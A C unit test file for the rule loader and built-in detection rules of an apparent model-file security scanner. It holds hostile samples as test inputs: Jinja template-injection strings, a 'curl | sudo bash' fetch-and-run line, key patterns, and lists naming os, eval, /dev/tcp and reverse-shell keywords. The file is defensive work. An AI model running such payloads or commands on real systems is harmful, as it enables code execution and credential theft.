/* test_rules.c - the errors of the loader, the operators, and the safety levels.
 *
 * Every test writes its own packs and lists to a temporary folder and adds them to the built-in
 * set, under list families of its own. */
#include "../../rules/tables.h"

#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <cmocka.h>

static char dir[64];

static int make_dir(void **state)
{
    (void)state;
    const char *tmp = getenv("TMPDIR");
    (void)snprintf(dir, sizeof dir, "%.40s/rulesXXXXXX", tmp != NULL ? tmp : "/tmp");
    return mkdtemp(dir) != NULL ? 0 : -1;
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st;
    (void)type;
    (void)ftw;
    return remove(path);
}

static int remove_dir(void **state)
{
    (void)state;
    return nftw(dir, remove_one, 8, FTW_DEPTH | FTW_PHYS);
}

/* Writes dir/name and makes the folders above it. */
static void put(const char *name, const char *text)
{
    char path[200];
    (void)snprintf(path, sizeof path, "%s/%s", dir, name);
    for (char *c = path + strlen(dir) + 1; (c = strchr(c, '/')); c++) {
        *c = 0;
        (void)mkdir(path, 0700);
        *c = '/';
    }

    FILE *f = fopen(path, "w");
    assert_non_null(f);
    assert_true(fputs(text, f) >= 0 && fclose(f) == 0);
}

static void drop(const char *name)
{
    char path[200];
    (void)snprintf(path, sizeof path, "%s/%s", dir, name);
    (void)remove(path);
}

#define RULE_HEAD                                                                                  \
    "\"id\":\"T-1\",\"rev\":1,\"severity\":\"low\",\"title\":\"t\",\"why\":\"w\",\"refs\":[],"
#define RULE_TAIL ",\"tests\":{\"hit\":[],\"miss\":[]}"
#define PACK(rules) "{\"pack\":\"t\",\"version\":\"2026.11.1\",\"rules\":[" rules "]}"
#define MATCH(match) PACK("{" RULE_HEAD "\"match\":" match RULE_TAIL "}")

/* The pack is refused, and the reason ends like this (file name included). */
static void refuse_file(const char *name, const char *text, const char *expect)
{
    char *why = NULL;
    put(name, text);
    struct ruleset *rs = rules_load(dir, &why);
    if (rs || !why || !strstr(why, expect)) {
        fail_msg("expected '%s', got '%s'", expect, why != NULL ? why : "success");
    }
    free(why);
    drop(name);
}

static void refuse(const char *text, const char *expect) { refuse_file("p.json", text, expect); }

static void refuses_invalid_packs(void **state)
{
    (void)state;
    refuse("", "p.json:: no JSON");
    refuse("{} x", "p.json:: no JSON");
    refuse("[]", "p.json:: an object is needed");
    refuse("{\"pack\":\"t\"}", "p.json:: field 'version' is missing");
    refuse("{\"pack\":\"t\",\"extra\":1}", "p.json:: unknown field 'extra'");
    refuse("{\"pack\":1}", "p.json:/pack: text is needed");
    refuse("{\"pack\":\"t\",\"pack\":\"t\"}", "p.json:/pack: the key occurs twice");
    refuse("{\"pack\":\"t\",\"version\":\"1.x\",\"rules\":[]}", "p.json:/version: a version like");
    refuse("{\"pack\":\"t\",\"version\":\"2026.11.1\",\"rules\":{}}", "p.json:/rules: an array");
    refuse("{\"pack\":\"t\\u0000\"}", "p.json:: a NUL");
    refuse("{\"a/b~\":{\"x\":1,\"x\":2}}", "p.json:/a~1b~0/x: the key occurs twice");
}

static void refuses_invalid_rules(void **state)
{
    (void)state;
    refuse(PACK("1"), "p.json:/rules/0: an object is needed");
    refuse(PACK("{\"id\":\"X\",\"sev\":1}"), "p.json:/rules/0: unknown field 'sev'");
    refuse(PACK("{\"id\":\"X\"}"), "p.json:/rules/0: field 'title' is missing");
    refuse(PACK("{\"id\":\"PICKLE-EXEC-001\"}"), "/rules/0: rule id 'PICKLE-EXEC-001' is built in");
    refuse(PACK("{\"id\":\"X\",\"title\":\"t\",\"why\":\"w\",\"rev\":0}"),
           "/rules/0/rev: a revision");
    refuse(PACK("{\"id\":\"X\",\"title\":\"t\",\"why\":\"w\",\"rev\":1.5}"),
           "/rules/0/rev: a revision");
    refuse(PACK("{\"id\":\"X\",\"title\":\"t\",\"why\":\"w\",\"rev\":1,\"severity\":\"none\"}"),
           "/rules/0/severity: info, low");
    refuse(PACK("{\"id\":\"X\",\"title\":\"t\",\"why\":\"w\",\"rev\":1,\"severity\":\"low\","
                "\"refs\":[1]}"),
           "/rules/0/refs/0: text is needed");
    refuse(PACK("{" RULE_HEAD "\"tests\":{\"hit\":[]}}"), "/rules/0/tests/miss: an array");
    refuse(PACK("{" RULE_HEAD "\"tests\":{\"hits\":[]}}"), "/rules/0/tests: unknown field 'hits'");
    refuse(PACK("{" RULE_HEAD "\"match\":{\"fact\":\"call\",\"via\":{\"eq\":\"x\"}}" RULE_TAIL "},"
                "{" RULE_HEAD "\"match\":{}" RULE_TAIL "}"),
           "/rules/1: rule id 'T-1' is used twice");
}

static void refuses_invalid_conditions(void **state)
{
    (void)state;
    refuse(MATCH("7"), "/rules/0/match/fact: a kind of fact");
    refuse(MATCH("{\"fact\":\"calls\"}"), "/rules/0/match/fact: a kind of fact");
    refuse(MATCH("{\"fact\":\"call\"}"), "/rules/0/match: a condition is needed");
    refuse(MATCH("{\"fact\":\"call\",\"calee\":{\"eq\":\"x\"}}"),
           "/rules/0/match: unknown field 'calee'");
    refuse(MATCH("{\"fact\":\"string\",\"callee\":{\"eq\":\"x\"}}"),
           "/match: unknown field 'callee'");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"eq\":\"x\"},\"op\":{\"eq\":\"x\"}}"),
           "/match: 'op' beside 'via'");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"like\":\"x\"}}"),
           "/match/via: unknown operator 'like'");
    refuse(MATCH("{\"fact\":\"call\",\"via\":\"x\"}"), "/match/via: an object with an operator");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"eq\":1}}"), "/match/via/eq: text is needed");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"gt\":1}}"), "/match/via/gt: 'via' is a text field");
    refuse(MATCH("{\"fact\":\"call\",\"unknown\":{\"re\":\"x\"}}"),
           "/unknown/re: 'unknown' is a number field");
    refuse(MATCH("{\"fact\":\"call\",\"unknown\":{\"gt\":-1}}"), "/unknown/gt: a whole number");
    refuse(MATCH("{\"fact\":\"call\",\"unknown\":{\"gt\":1e300}}"), "/unknown/gt: a whole number");
    refuse(MATCH("{\"fact\":\"call\",\"unknown\":{\"gt_field\":\"via\"}}"),
           "/gt_field: a number field");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"in\":[]}}"), "/match/via/in: an array");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"in\":[\"a\",2]}}"),
           "/match/via/in/1: text is needed");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"re\":\"(\"}}"), "/match/via/re: bad pattern: ");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"re\":\"(*UTF)a\"}}"),
           "/match/via/re: bad pattern: ");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"in_list\":\"nope\"}}"),
           "/in_list: no plain list 'nope'");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"in_list\":\"pickle/allowed\"}}"),
           "/in_list: no plain list");
    refuse(MATCH("{\"fact\":\"call\",\"callee\":{\"eq\":\"x\"}}"),
           "/match/callee: in_list and nothing else");
    refuse(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"model-extensions\"}}"),
           "/callee/in_list: no list of");
    refuse(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"pickle/allowed\"},\"as\":\"run\"}"),
           "/match/as: import, call");
    refuse(MATCH("{\"fact\":\"call\",\"via\":{\"eq\":\"x\"},\"as\":\"call\"}"),
           "/match: 'as' belongs to");
    refuse(MATCH("{\"fact\":\"call\",\"all\":[{\"via\":{\"eq\":\"x\"}},{\"not\":{\"vai\":{}}}]}"),
           "/match/all/1/not: unknown field 'vai'");
}

static void refuses_conditions_nested_too_deep(void **state)
{
    (void)state;
    char text[2000] = "{\"pack\":\"t\",\"version\":\"2026.11.1\",\"rules\":[{" RULE_HEAD
                      "\"match\":{\"fact\":\"call\",\"not\":";
    for (int i = 0; i < 40; i++) {
        strcat(text, "{\"not\":");
    }

    strcat(text, "{\"via\":{\"eq\":\"x\"}}");
    for (int i = 0; i < 40; i++) {
        strcat(text, "}");
    }

    strcat(text, "}" RULE_TAIL "}]}");
    refuse(text, "nested more than 32 deep");
}

static void refuses_invalid_lists(void **state)
{
    (void)state;
    refuse_file("lists/acme/allowed/a.txt", "# x\nmod name\n",
                "a.txt:2: module, name and operations");
    refuse_file("lists/acme/allowed/a.txt", "mod\n", "a.txt:1: module and name are needed");
    refuse_file("lists/acme/allowed/a.txt", "mod name run\n", "a.txt:1: unknown operation 'run'");
    refuse_file("lists/acme/allowed/a.txt", "mod name call,call\n",
                "a.txt:1: repeated operation 'call'");
    refuse_file("lists/acme/allowed/a.txt", "mod * call\n", "a.txt:1: no wildcards");
    refuse_file("lists/acme/allowed/a.txt", "mod name call why\n", "a.txt:1: 'why' after");
    refuse_file("lists/acme/allowed/a.txt", "m n call\nm n new\n", "a.txt:2: 'm n' is already in ");
    refuse_file("lists/acme/dangerous/a.txt", "mod name\n", "a.txt:1: a reason is needed");
    refuse_file("lists/acme/dangerous/a.txt", "mod x* why\n", "a.txt:1: '*' stands alone");
    refuse_file("lists/acme/dangerous/a.txt", "mod.* x why\n", "a.txt:1: '*' stands alone");
    refuse_file("lists/acme/dangerous/a.txt", "mod x why\r\n", "a.txt:1: a control character");
    refuse_file("lists/plain.txt", "a\nb\na\n", "plain.txt:3: 'a' is already in ");
    refuse_file("lists/pickle/allowed/a.txt", "os system call\n",
                "list 'pickle/allowed' is built in");
}

static void refuses_a_folder_without_packs(void **state)
{
    (void)state;
    char *why = NULL;
    assert_null(rules_load("/nonexistent/rules", &why));
    assert_non_null(strstr(why, "no packs and no lists"));
    free(why);
}

static void count(void *ctx, const struct rule *r, const struct fact *f)
{
    (void)f;
    *(int *)ctx += strcmp(r->id, "T-1") == 0;
}

static bool hits(const char *pack, const struct fact *f)
{
    char *why = NULL;
    int n = 0;
    put("p.json", pack);
    struct ruleset *rs = rules_load(dir, &why);
    if (rs == NULL) {
        fail_msg("%s", why);
    }

    rules_match(rs, f, count, &n);
    rules_free(rs);
    drop("p.json");
    return n == 1;
}

static void text_operators_match_text_only(void **state)
{
    (void)state;
    struct fact f = { .kind = FACT_STRING,
                      .string.text = BYTES("a\xff"
                                           "bc"),
                      .string.role = BYTES("pt") };
    put("lists/known.txt", "# comment\npt\nkeras\n");
    assert_true(hits(MATCH("{\"fact\":\"string\",\"role\":{\"eq\":\"pt\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"role\":{\"eq\":\"p\"}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"string\",\"role\":{\"in\":[\"x\",\"pt\"]}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"role\":{\"in\":[\"x\",\"ptx\"]}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"string\",\"role\":{\"prefix\":\"p\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"role\":{\"prefix\":\"t\"}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"string\",\"text\":{\"re\":\"b.$\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"text\":{\"re\":\"^b\"}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"string\",\"role\":{\"in_list\":\"known\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"text\":{\"in_list\":\"known\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"string\",\"key\":{\"prefix\":\"\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"meta\",\"key\":{\"prefix\":\"\"}}"), &f));
    drop("lists/known.txt");
}

static void number_operators_need_a_known_number(void **state)
{
    (void)state;
    struct fact f = { .kind = FACT_ANOMALY,
                      .anomaly.actual = { 100, true },
                      .anomaly.declared = { 99, true } };
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"eq\":100}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"eq\":99}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"in\":[1,100]}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt\":99}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt\":100}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"ge\":100}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"ge\":101}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"lt\":101}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"lt\":100}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt_field\":\"declared\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"declared\":{\"gt_field\":\"actual\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt_field\":\"limit\"}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"limit\":{\"lt\":5}}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt\":99,\"lt\":101}}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"anomaly\",\"actual\":{\"gt\":99,\"lt\":100}}"), &f));
}

#define YES "{\"via\":{\"eq\":\"REDUCE\"}}"
#define NO "{\"via\":{\"eq\":\"OBJ\"}}"

static void all_any_and_not_combine_conditions(void **state)
{
    (void)state;
    struct fact f = { .kind = FACT_CALL, .call.via = BYTES("REDUCE") };
    assert_true(hits(MATCH("{\"fact\":\"call\",\"all\":[" YES "," YES "]}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"call\",\"all\":[" YES "," NO "]}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"call\",\"any\":[" NO "," YES "]}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"call\",\"any\":[" NO "," NO "]}"), &f));
    assert_true(hits(MATCH("{\"fact\":\"call\",\"not\":" NO "}"), &f));
    assert_false(hits(MATCH("{\"fact\":\"call\",\"not\":" YES "}"), &f));
}

/* A pattern that backtracks exponentially is undecided, and so counts. */
static void a_pattern_at_its_limit_matches(void **state)
{
    (void)state;
    static uint8_t a[4000];
    memset(a, 'a', sizeof a);
    struct fact f = { .kind = FACT_STRING, .string.text = { a, sizeof a } };
    assert_true(hits(MATCH("{\"fact\":\"string\",\"text\":{\"re\":\"(a|aa)+[bc](?!d)$\"}}"), &f));
}

/* "as" names another operation than the fact's own. */
static void a_callee_is_looked_up_by_its_operation(void **state)
{
    (void)state;
    struct fact f = { .kind = FACT_CALL,
                      .call.module = BYTES("m"),
                      .call.name = BYTES("f"),
                      .call.op = BYTES("argument") };
    put("lists/acme/allowed/a.txt", "m f import,call # harmless\n");
    put("lists/acme/dangerous/a.txt", "bad * runs things\n");
    assert_false(hits(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"acme/allowed\"}}"), &f));
    assert_true(
        hits(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"acme/allowed\"},\"as\":\"call\"}"),
             &f));
    assert_false(
        hits(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"acme/dangerous\"}}"), &f));
    f.call.module = BYTES("bad.below");
    assert_true(hits(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"acme/dangerous\"}}"), &f));
    f.call.module = (struct bytes){ 0 };
    assert_false(
        hits(MATCH("{\"fact\":\"call\",\"callee\":{\"in_list\":\"acme/dangerous\"}}"), &f));
    struct fact i = { .kind = FACT_IMPORT, .import.module = BYTES("m"), .import.name = BYTES("f") };
    assert_true(hits(MATCH("{\"fact\":\"import\",\"global\":{\"in_list\":\"acme/allowed\"}}"), &i));
    assert_false(hits(
        MATCH("{\"fact\":\"import\",\"global\":{\"in_list\":\"acme/allowed\"},\"as\":\"new\"}"),
        &i));
    drop("lists/acme/allowed/a.txt");
    drop("lists/acme/dangerous/a.txt");
}

static struct rule_tables *safety_model;

static enum safety level(const char *module, const char *name, const char *op)
{
    const struct rule_tables *models[] = { safety_model };
    struct lookup l = { models, 1, BYTES("t") };
    const char *reason = NULL;
    enum safety s = safety_of(&l, bytes_of(module), bytes_of(name), op_bit(bytes_of(op)),
                              (struct bytes){ NULL, 0 }, &reason);
    assert_true((s == SAFETY_DANGEROUS) == (reason != NULL));
    return s;
}

static void load_safety(void)
{
    char *why = NULL;
    put("lists/t/allowed/a.txt", "collections OrderedDict import,call\ncollections deque import\n"
                                 "collections deque.append method\nos PathLike import\nodd "
                                 "Class.__init__ call\nboth f call\n");
    put("lists/t/dangerous/a.txt",
        "os * runs commands\nposix * runs commands\nbuiltins eval evaluates\n"
        "torch.hub load downloads\nboth f is bad\n");
    safety_model = rule_tables_load(dir, NULL, &why);
    if (!safety_model) {
        fail_msg("%s", why);
    }
}

static void an_unlisted_name_is_suspicious(void **state)
{
    (void)state;
    load_safety();
    assert_int_equal(level("collections", "OrderedDict", "call"), SAFETY_INNOCUOUS);
    assert_int_equal(level("collections", "OrderedDict", "argument"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("collections", "deque", "call"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("collections", "deque.append", "method"), SAFETY_INNOCUOUS);
    assert_int_equal(level("collections", "deque.clear", "method"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("my.model", "Net", "import"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("", "", ""), SAFETY_SUSPICIOUS);
    assert_int_equal(level("os", "system", "import"), SAFETY_DANGEROUS);
    assert_int_equal(level("os.path", "join", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("osx", "system", "call"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("os", "PathLike", "import"), SAFETY_INNOCUOUS);
    assert_int_equal(level("both", "f", "call"), SAFETY_DANGEROUS);
    rule_tables_free(safety_model);
    drop("lists/t/allowed/a.txt");
    drop("lists/t/dangerous/a.txt");
}

static void a_dotted_name_is_as_dangerous_as_its_parts(void **state)
{
    (void)state;
    load_safety();
    assert_int_equal(level("tempfile", "_os.system", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("pathlib", "os.system", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("a", "b.c.__os.path.x", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("a", "b.c.d", "call"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("torch", "hub.load", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("torch", "hub.list", "call"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("builtins", "eval.__call__", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("builtins", "eval.x", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("my", "f.__globals__", "import"), SAFETY_DANGEROUS);
    assert_int_equal(level("odd", "Class.__init__", "call"), SAFETY_INNOCUOUS);
    assert_int_equal(level("my", "Dict.__setitem__", "method"), SAFETY_SUSPICIOUS);
    assert_int_equal(level("my", "Dict.__setitem__", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("my", "a.b.c.d.e.f.g.h.i", "call"), SAFETY_DANGEROUS);
    assert_int_equal(level("my", "....", "call"), SAFETY_SUSPICIOUS);
    rule_tables_free(safety_model);
    drop("lists/t/allowed/a.txt");
    drop("lists/t/dangerous/a.txt");
}

static void the_built_in_rules_are_found(void **state)
{
    (void)state;
    const struct ruleset *rs = rules_builtin();
    assert_true(rules_count(rs) > 40);
    assert_ptr_equal(rules_find(rs, rules_at(rs, 0)->id), rules_at(rs, 0));
    assert_null(rules_find(rs, "NOPE-001"));
    assert_null(rules_at(rs, rules_count(rs)));
    assert_true(rules_listed(rs, "model-extensions", BYTES("safetensors")));
    assert_false(rules_listed(rs, "model-extensions", BYTES("txt")));
    assert_false(rules_listed(rs, "nope", BYTES("txt")));
    assert_string_equal(severity_name(SEV_CRITICAL), "critical");
    assert_string_equal(safety_name(SAFETY_DANGEROUS), "dangerous");
}

static void note(void *ctx, const struct rule *r, const struct fact *f)
{
    (void)f;
    if (r->severity > *(enum severity *)ctx) {
        *(enum severity *)ctx = r->severity;
    }
}

static enum severity worst_template(const char *text)
{
    enum severity s = SEV_NONE;
    struct fact f = { .kind = FACT_STRING,
                      .string.role = BYTES("chat-template"),
                      .string.text = bytes_of(text) };
    rules_match(rules_builtin(), &f, note, &s);
    return s;
}

static void hostile_templates_match_and_honest_ones_do_not(void **state)
{
    (void)state;
    assert_int_equal(
        worst_template(
            "{% set ns = namespace(found=false) %}{% for m in messages | selectattr('role') %}"
            "{{ m['role'] + loop.index0 | string }}{{ raise_exception('no') }}{% endfor %}"),
        SEV_NONE);
    assert_int_equal(worst_template("{{ ''.__class__.__mro__ }}"), SEV_CRITICAL);
    assert_int_equal(worst_template("{{ lipsum.x }}"), SEV_CRITICAL);
    assert_int_equal(worst_template("{{ x|attr('a'~'b') }}"), SEV_CRITICAL);
    assert_int_equal(worst_template("{{ x['\\x5f\\x5fclass'] }}"), SEV_CRITICAL);
    assert_int_equal(worst_template("curl -s http://x/y | sudo bash"), SEV_MEDIUM);
    assert_int_equal(worst_template("-----BEGIN RSA PRIVATE KEY-----"), SEV_MEDIUM);
    assert_int_equal(worst_template("AKIAABCDEFGHIJKLMNOP"), SEV_MEDIUM);
    assert_int_equal(worst_template("XAKIAABCDEFGHIJKLMNOP"), SEV_NONE);
}

/* Long ordinary text must not run into the limits of the built-in patterns. */
static void long_honest_text_matches_nothing(void **state)
{
    (void)state;
    static const char *const words[] = { "a",     "curl ", "wget x ",   "powershell ",  "exec (",
                                         "nc ",   "map (", "/dev/tcp/", "xoxb-",        "sk-ant-",
                                         "hf_",   " ",     "_",         "mkfifo /tmp/", "attr ",
                                         "IEX (", "self " };
    static char text[65537];
    for (size_t w = 0; w < sizeof words / sizeof *words; w++) {
        size_t n = strlen(words[w]);
        for (size_t i = 0; i + n < sizeof text; i += n) {
            memcpy(text + i, words[w], n + 1);
        }
        if (worst_template(text) != SEV_NONE && strcmp(words[w], "sk-ant-") != 0) {
            fail_msg("64 KiB of '%s'", words[w]);
        }
    }
}

/* The digest depends on the content of the rules, not on their layout. */
static void the_digest_follows_content_not_layout(void **state)
{
    (void)state;
    char *why = NULL;
    put("p.json", MATCH("{\"fact\":\"call\",\"via\":{\"eq\":\"x\"}}"));
    struct ruleset *a = rules_load(dir, &why);
    put("p.json", " " MATCH("{ \"via\" : {\"eq\":\"x\"},\"fact\":\"call\"}"));
    struct ruleset *b = rules_load(dir, &why);
    put("p.json", MATCH("{\"fact\":\"call\",\"via\":{\"eq\":\"y\"}}"));
    struct ruleset *c = rules_load(dir, &why);
    assert_memory_equal(rules_digest(a), rules_digest(b), 32);
    assert_memory_not_equal(rules_digest(a), rules_digest(c), 32);
    assert_memory_not_equal(rules_digest(a), rules_digest(rules_builtin()), 32);
    assert_int_equal(rules_count(a), rules_count(rules_builtin()) + 1);
    rules_free(a);
    rules_free(b);
    rules_free(c);
    drop("p.json");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(refuses_invalid_packs),
        cmocka_unit_test(refuses_invalid_rules),
        cmocka_unit_test(refuses_invalid_conditions),
        cmocka_unit_test(refuses_conditions_nested_too_deep),
        cmocka_unit_test(refuses_invalid_lists),
        cmocka_unit_test(refuses_a_folder_without_packs),
        cmocka_unit_test(text_operators_match_text_only),
        cmocka_unit_test(number_operators_need_a_known_number),
        cmocka_unit_test(all_any_and_not_combine_conditions),
        cmocka_unit_test(a_pattern_at_its_limit_matches),
        cmocka_unit_test(a_callee_is_looked_up_by_its_operation),
        cmocka_unit_test(an_unlisted_name_is_suspicious),
        cmocka_unit_test(a_dotted_name_is_as_dangerous_as_its_parts),
        cmocka_unit_test(the_built_in_rules_are_found),
        cmocka_unit_test(the_digest_follows_content_not_layout),
        cmocka_unit_test(hostile_templates_match_and_honest_ones_do_not),
        cmocka_unit_test(long_honest_text_matches_nothing),
    };

    return cmocka_run_group_tests(tests, make_dir, remove_dir);
}
